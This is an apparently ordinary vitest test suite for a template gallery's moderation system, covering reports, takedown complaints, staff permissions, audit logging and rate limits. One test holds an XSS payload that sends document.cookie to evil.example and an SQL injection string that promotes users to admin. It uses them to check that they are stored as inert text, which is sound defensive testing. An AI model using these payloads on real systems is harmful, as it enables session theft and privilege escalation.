import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RateLimits } from '../src/auth/rate-limit';
import { verifyAuditChain } from '../src/audit/verify-audit-chain';
import { fileConfirmedComplaint } from './support/file-complaint';
import { seedTemplate } from './support/seed-template';
import { signUpUser } from './support/sign-up-user';
import { createTestApp, type ApiClient, type TestApp } from './support/test-app';
import { databaseKinds } from './support/test-database';
import { moderationTestLimits } from './support/moderation-limits';


interface AuditRow { seq: string | number; staff_id: string; action: string; subject_user_id: string | null; target: string }

describe.each(databaseKinds)('moderation on %s', (kind) => {
  let t: TestApp;
  let n = 0;
  const user = (displayName = 'Test User', role?: 'moderator' | 'support' | 'admin') => signUpUser(t, `moderation${++n}-${kind}@example.test`, displayName, role);
  const publicTemplate = (ownerId: string, name = `Reported ${++n}`) => seedTemplate(t.database.db, { ownerId, name, visibility: 'public', license: 'CC-BY-4.0' });
  const auditSince = async (seq: number) => t.database.db.query<AuditRow>('SELECT seq, staff_id, action, subject_user_id, target FROM audit_log WHERE seq > $1 ORDER BY seq', [seq]);
  const lastSeq = async () => Number((await t.database.db.query<{ s: string | number | null }>('SELECT max(seq) AS s FROM audit_log'))[0]!.s ?? 0);
  const complaint = { ground: 'personal-data', claimant: 'Claire Claimant', contactEmail: `claire-${kind}@example.test`, work: 'My "Spice" jar drawing, 2024', reason: 'This is a copy of my drawing.' };
  const fileConfirmed = (templateId: string, body: typeof complaint = complaint) => fileConfirmedComplaint(t, templateId, body);
  beforeAll(async () => {
    t = await createTestApp(kind, { limits: moderationTestLimits });
  });
  afterAll(() => t.close());

  it('queues a rules report for staff; upholding it hides the template from all but its owner and staff, and tells the owner', async () => {
    const a = await user('Ada');
    const b = await user('Bea');
    const mod = await user('Mo', 'moderator');
    const id = await publicTemplate(a.id);
    const url = `/api/gallery/${id}/report`;
    expect((await b.c.post(url, { reason: '' })).body.error).toMatchObject({ code: 'INKLESS_API_BAD_REQUEST', path: 'reason' });
    expect((await b.c.post(url, { reason: 'spam', urgent: true })).status).toBe(400);
    expect((await t.client().post(url, { reason: 'spam' })).status).toBe(401);
    const report = await b.c.post(url, { reason: 'Advertises a scam shop' });
    expect(report.status).toBe(201);
    expect(report.body.report).toMatchObject({ kind: 'rules', status: 'open' });
    // Reporting again while it is open: the same report, not a second one in the queue.
    const again = await b.c.post(url, { reason: 'Really, a scam' });
    expect(again.status).toBe(200);
    expect(again.body.report.id).toBe(report.body.report.id);

    const queue = await mod.c.get('/api/moderation/reports?kind=rules&limit=100');
    expect(queue.status).toBe(200);
    const queued = queue.body.reports.find((r: { id: string }) => r.id === report.body.report.id);
    expect(queued).toMatchObject({ kind: 'rules', status: 'open', reason: 'Advertises a scam shop', reporter: { id: b.id, displayName: 'Bea' }, template: { id, ownerId: a.id, publisher: 'Ada', hidden: null } });
    const view = await mod.c.get(`/api/moderation/templates/${id}`);
    expect(view.body.template).toMatchObject({ id, ownerId: a.id, visibility: 'public', hidden: null });
    expect(view.body.template.document).toMatchObject({ schemaVersion: 2 });
    expect(view.body.reports).toEqual([expect.objectContaining({ id: report.body.report.id, kind: 'rules', status: 'open' })]);

    const resolveUrl = `/api/moderation/reports/${report.body.report.id}/resolve`;
    expect((await mod.c.post(resolveUrl, { decision: 'maybe' })).body.error).toMatchObject({ code: 'INKLESS_API_BAD_REQUEST', path: 'decision' });
    const resolved = await mod.c.post(resolveUrl, { decision: 'upheld', note: 'Scam links are not allowed.' });
    expect(resolved.status).toBe(200);
    expect(resolved.body).toMatchObject({ report: { status: 'upheld' }, template: { id, visible: false } });
    expect((await mod.c.post(resolveUrl, { decision: 'dismissed' })).status).toBe(409);
    const mail = await t.smtp.waitFor(a.email);
    expect(mail.subject).toBe('Your Inkless template was taken down');
    expect(mail.text).toContain('Scam links are not allowed.');

    expect((await b.c.get(`/api/gallery/${id}`)).status).toBe(404);
    expect((await t.client().get('/api/gallery?limit=50')).body.items.map((i: { id: string }) => i.id)).not.toContain(id);
    expect((await a.c.get(`/api/gallery/${id}`)).body.template.hidden).toMatchObject({ reason: 'Removed by a moderator: it breaks the content rules.' });
    expect((await mod.c.get(`/api/moderation/templates/${id}`)).body.template.hidden).toMatchObject({ reason: 'Removed by a moderator: it breaks the content rules.' });
    expect((await mod.c.get(`/api/moderation/reports?status=upheld&limit=100`)).body.reports.map((r: { id: string }) => r.id)).toContain(report.body.report.id);
  });

  it('dismissing a rules report leaves the template as it was and mails nobody', async () => {
    const a = await user();
    const b = await user();
    const mod = await user('Mo', 'support');
    const id = await publicTemplate(a.id);
    const report = await b.c.post(`/api/gallery/${id}/report`, { reason: 'I do not like it' });
    const before = t.smtp.mails.length;
    const resolved = await mod.c.post(`/api/moderation/reports/${report.body.report.id}/resolve`, { decision: 'dismissed', note: 'Taste is not a rule.' });
    expect(resolved.body).toMatchObject({ report: { status: 'dismissed' }, template: { visible: true } });
    // Mail is sent before the answer, so none has been sent if none is there now.
    expect(t.smtp.mails.length).toBe(before);
    expect((await b.c.get(`/api/gallery/${id}`)).status).toBe(200);
  });

  it('hides a template at once on a confirmed personal-data complaint, mails the publisher, takes their answer, and shows it again when staff dismiss the complaint', async () => {
    const a = await user('Ada');
    const b = await user('Bea');
    const mod = await user('Mo', 'moderator');
    const id = await publicTemplate(a.id, 'Spice jar');
    const anonymous = t.client();
    expect((await anonymous.post(`/api/gallery/${id}/ip-complaint`, { ...complaint, contactEmail: 'nope' })).body.error).toMatchObject({ code: 'INKLESS_API_BAD_REQUEST', path: 'contactEmail' });
    expect((await anonymous.post(`/api/gallery/${id}/ip-complaint`, { ...complaint, work: undefined })).body.error).toMatchObject({ path: 'work' });
    expect((await anonymous.post(`/api/gallery/${id}/ip-complaint`, { ...complaint, lawyer: true })).status).toBe(400);
    const filed = { body: { complaint: await fileConfirmed(id) } };
    expect(filed.body.complaint.hidden).toBe(true);

    // Hidden at once, before any staff looked.
    expect((await b.c.get(`/api/gallery/${id}`)).status).toBe(404);
    expect((await t.client().get('/api/gallery?q=spice&limit=50')).body.items.map((i: { id: string }) => i.id)).not.toContain(id);
    const own = (await a.c.get(`/api/gallery/${id}`)).body.template;
    expect(own.hidden.reason).toMatch(/complaint that it shows someone's personal data/);
    expect(own.complaints).toEqual([expect.objectContaining({ id: filed.body.complaint.id, ground: 'personal-data', claimant: 'Claire Claimant', work: complaint.work, reason: complaint.reason, response: null })]);
    expect(JSON.stringify(own)).not.toContain(complaint.contactEmail);

    const mail = await t.smtp.waitFor(a.email);
    expect(mail.subject).toBe('Your Inkless template was hidden after a complaint');
    expect(mail.text).toContain('shows personal data of someone who did not agree to it');
    expect(mail.text).toContain('Claire Claimant');
    expect(mail.text).toContain(complaint.work);
    expect(mail.text).toContain(`POST /api/templates/${id}/ip-response`);
    expect(mail.text).toContain(`http://localhost:3000/gallery/${id}`);

    expect((await b.c.post(`/api/templates/${id}/ip-response`, { response: 'I made it' })).status).toBe(404);
    expect((await a.c.post(`/api/templates/${id}/ip-response`, { response: '' })).body.error.path).toBe('response');
    const answered = await a.c.post(`/api/templates/${id}/ip-response`, { response: 'I drew this myself in 2023; sketches attached.' });
    expect(answered.status).toBe(200);
    expect(answered.body.answered).toEqual([filed.body.complaint.id]);

    const queue = await mod.c.get('/api/moderation/reports?kind=ip&limit=100');
    const queued = queue.body.reports.find((r: { id: string }) => r.id === filed.body.complaint.id);
    expect(queued).toMatchObject({ kind: 'ip', claimant: 'Claire Claimant', contactEmail: complaint.contactEmail, work: complaint.work, reporter: null, publisherResponse: 'I drew this myself in 2023; sketches attached.' });
    const single = await mod.c.get(`/api/moderation/reports/${filed.body.complaint.id}`);
    expect(single.body.report).toMatchObject({ id: filed.body.complaint.id, template: { id, hidden: { reason: expect.stringMatching(/complaint/) } } });

    const resolved = await mod.c.post(`/api/moderation/reports/${filed.body.complaint.id}/resolve`, { decision: 'dismissed', note: 'The sketches predate the claim.' });
    expect(resolved.body.template).toEqual({ id, visible: true });
    expect((await b.c.get(`/api/gallery/${id}`)).status).toBe(200);
    expect((await t.smtp.waitFor(a.email)).subject).toBe('Your Inkless template is back in the gallery');
    const toClaimant = await t.smtp.waitFor(complaint.contactEmail);
    expect(toClaimant.subject).toBe('Your complaint to Inkless was decided');
    expect(toClaimant.text).toMatch(/dismissed/);
    expect((await a.c.post(`/api/templates/${id}/ip-response`, { response: 'again' })).body.error.code).toBe('INKLESS_MODERATION_NO_OPEN_COMPLAINT');
  });

  it('keeps a template down when its complaint is upheld, or when a rules report against it was upheld meanwhile', async () => {
    const a = await user();
    const b = await user();
    const mod = await user('Mo', 'admin');
    const upheldId = await publicTemplate(a.id);
    const first = await fileConfirmed(upheldId);
    // Taken down already: a second complaint finds nothing to complain about.
    expect((await t.client().post(`/api/gallery/${upheldId}/ip-complaint`, complaint)).status).toBe(404);
    const upheld = await mod.c.post(`/api/moderation/reports/${first.id}/resolve`, { decision: 'upheld', note: 'Licence shown.' });
    expect(upheld.body.template.visible).toBe(false);
    expect((await a.c.get(`/api/gallery/${upheldId}`)).body.template.hidden.reason).toMatch(/upheld/);
    expect((await t.client().get(`/api/gallery/${upheldId}`)).status).toBe(404);

    const bothId = await publicTemplate(a.id);
    const rules = (await b.c.post(`/api/gallery/${bothId}/report`, { reason: 'hateful text' })).body.report;
    const ip = await fileConfirmed(bothId);
    expect((await mod.c.post(`/api/moderation/reports/${rules.id}/resolve`, { decision: 'upheld' })).body.template.visible).toBe(false);
    const dismissed = await mod.c.post(`/api/moderation/reports/${ip.id}/resolve`, { decision: 'dismissed' });
    expect(dismissed.body.template.visible).toBe(false);
    expect((await t.client().get(`/api/gallery/${bothId}`)).status).toBe(404);
  });

  it('refuses every moderation route to users (403) and to the signed out (401); every staff role may read the queue', async () => {
    const a = await user();
    const b = await user();
    const id = await publicTemplate(a.id);
    const report = (await b.c.post(`/api/gallery/${id}/report`, { reason: 'spam' })).body.report;
    const routes: [string, (c: ApiClient) => Promise<{ status: number; body: { error: { code: string } } }>][] = [
      ['queue', (c) => c.get('/api/moderation/reports')],
      ['report', (c) => c.get(`/api/moderation/reports/${report.id}`)],
      ['template', (c) => c.get(`/api/moderation/templates/${id}`)],
      ['resolve', (c) => c.post(`/api/moderation/reports/${report.id}/resolve`, { decision: 'upheld' })],
    ];
    const before = await lastSeq();
    for (const [what, call] of routes) {
      const asUser = await call(b.c);
      expect(asUser.status, what).toBe(403);
      expect(asUser.body.error.code).toBe('INKLESS_API_FORBIDDEN');
      const asOwner = await call(a.c);
      expect(asOwner.status, what).toBe(403);
      const signedOut = await call(t.client());
      expect(signedOut.status, what).toBe(401);
    }
    expect(await auditSince(before)).toEqual([]);
    const [state] = await t.database.db.query<{ status: string }>('SELECT status FROM reports WHERE id = $1', [report.id]);
    expect(state!.status).toBe('open');
    for (const role of ['moderator', 'support', 'admin'] as const) expect((await (await user('Staff', role)).c.get('/api/moderation/reports')).status, role).toBe(200);
    // Staff see private templates only when they were reported.
    const mod = await user('Mo', 'moderator');
    const unreported = await seedTemplate(t.database.db, { ownerId: a.id, name: 'Private, never reported' });
    expect((await mod.c.get(`/api/moderation/templates/${unreported}`)).status).toBe(404);
  });

  it('writes every staff read and decision to the audit log (who, whose data, what), and the chain verifies', async () => {
    const a = await user();
    const b = await user();
    const mod = await user('Mo', 'moderator');
    const id = await publicTemplate(a.id);
    const report = (await b.c.post(`/api/gallery/${id}/report`, { reason: 'spam' })).body.report;
    const anon = await fileConfirmed(await publicTemplate(a.id));
    // Reads by users and the public are not staff access: nothing is logged for them.
    const start = await lastSeq();
    await t.client().get(`/api/gallery/${id}`);
    expect(await auditSince(start)).toEqual([]);

    const queue = await mod.c.get('/api/moderation/reports?limit=100');
    const listed = queue.body.reports as { id: string; reporter: { id: string } | null; template: { ownerId: string | null } }[];
    const listing = await auditSince(start);
    const expected = listed.flatMap((r) => [...new Set([r.template.ownerId, r.reporter?.id].filter(Boolean))].map((subject) => ({ action: 'moderation.reports.list', subject_user_id: subject, target: `report:${r.id}`, staff_id: mod.id })));
    expect(listing.map(({ seq: _seq, ...rest }) => rest)).toEqual(expected);
    expect(listing).toContainEqual(expect.objectContaining({ subject_user_id: b.id, target: `report:${report.id}` }));
    expect(listing).toContainEqual(expect.objectContaining({ subject_user_id: a.id, target: `report:${anon.id}` }));

    const mark = await lastSeq();
    await mod.c.get(`/api/moderation/reports/${report.id}`);
    await mod.c.get(`/api/moderation/templates/${id}`);
    await mod.c.post(`/api/moderation/reports/${report.id}/resolve`, { decision: 'dismissed' });
    expect((await auditSince(mark)).map(({ seq: _seq, ...rest }) => rest)).toEqual([
      { staff_id: mod.id, action: 'moderation.report.view', subject_user_id: a.id, target: `report:${report.id}` },
      { staff_id: mod.id, action: 'moderation.report.view', subject_user_id: b.id, target: `report:${report.id}` },
      { staff_id: mod.id, action: 'moderation.template.view', subject_user_id: a.id, target: `template:${id}` },
      { staff_id: mod.id, action: 'moderation.report.resolve', subject_user_id: a.id, target: `report:${report.id}` },
      { staff_id: mod.id, action: 'moderation.report.resolve', subject_user_id: b.id, target: `report:${report.id}` },
    ]);
    // A refused read (already resolved) leaves no entry: the decision did not happen.
    const refusedMark = await lastSeq();
    expect((await mod.c.post(`/api/moderation/reports/${report.id}/resolve`, { decision: 'upheld' })).status).toBe(409);
    expect(await auditSince(refusedMark)).toEqual([]);
    expect(await verifyAuditChain(t.database.db)).toMatchObject({ ok: true });
  });

  it('stores and returns XSS and SQL payloads in reports, complaints and answers as inert text', async () => {
    const a = await user('<b onmouseover=alert(1)>Ada</b>');
    const b = await user();
    const mod = await user('Mo', 'moderator');
    const xss = `<script>fetch('//evil.example/'+document.cookie)</script>"'><svg onload=alert(1)>`;
    const sqli = `x'); UPDATE users SET role = 'admin'; --`;
    const id = await publicTemplate(a.id);
    const roles = async () => t.database.db.query<{ id: string }>("SELECT id FROM users WHERE role <> 'user' ORDER BY id");
    const staffBefore = await roles();
    const report = (await b.c.post(`/api/gallery/${id}/report`, { reason: `${xss} ${sqli}` })).body.report;
    const ipId = await publicTemplate(a.id);
    const filed = { body: { complaint: await fileConfirmed(ipId, { ground: 'copyright', claimant: sqli, contactEmail: `x-${kind}@example.test`, work: xss, reason: `${sqli}\n${xss}` }) } };
    expect((await a.c.post(`/api/templates/${ipId}/ip-response`, { response: xss })).status).toBe(200);
    const queue = await mod.c.get('/api/moderation/reports?limit=100');
    expect(queue.headers['content-type']).toMatch(/^application\/json/);
    const rules = queue.body.reports.find((r: { id: string }) => r.id === report.id);
    expect(rules.reason).toBe(`${xss} ${sqli}`);
    expect(rules.template.publisher).toBe('<b onmouseover=alert(1)>Ada</b>');
    const ip = queue.body.reports.find((r: { id: string }) => r.id === filed.body.complaint.id);
    expect(ip).toMatchObject({ claimant: sqli, work: xss, reason: `${sqli}\n${xss}`, publisherResponse: xss });
    expect(await roles()).toEqual(staffBefore);
    const note = await mod.c.post(`/api/moderation/reports/${report.id}/resolve`, { decision: 'dismissed', note: xss });
    expect(note.status).toBe(200);
    const [stored] = await t.database.db.query<{ resolution: string }>('SELECT resolution FROM reports WHERE id = $1', [report.id]);
    expect(stored!.resolution).toBe(xss);
  });

  it('limits complaints per client address, answering 429 with Retry-After', async () => {
    const local = await createTestApp(kind, { limits: { ipComplaintPerIp: { name: 'ip-complaint-ip', max: 2, windowSeconds: 60 }, ipComplaintPerComplainant: { name: 'ip-complaint-complainant', max: 100, windowSeconds: 60 } } as Partial<RateLimits> });
    try {
      const owner = await local.client().signUp(`limit-${kind}@example.test`);
      const ids = [];
      for (let i = 0; i < 3; i++) ids.push(await seedTemplate(local.database.db, { ownerId: owner.id, name: `Limited ${i}`, visibility: 'public' }));
      const c = local.client();
      expect((await c.post(`/api/gallery/${ids[0]}/ip-complaint`, complaint)).status).toBe(202);
      expect((await c.post(`/api/gallery/${ids[1]}/ip-complaint`, complaint)).status).toBe(202);
      const limited = await c.post(`/api/gallery/${ids[2]}/ip-complaint`, complaint);
      expect(limited.status).toBe(429);
      expect(limited.body.error.code).toBe('INKLESS_API_RATE_LIMITED');
      expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
      const [row] = await local.database.db.query<{ hidden_at: Date | null }>('SELECT hidden_at FROM templates WHERE id = $1', [ids[2]]);
      expect(row!.hidden_at).toBeNull();
      local.clock.advance(60_000);
      expect((await c.post(`/api/gallery/${ids[2]}/ip-complaint`, complaint)).status).toBe(202);
    } finally {
      await local.close();
    }
  });
});
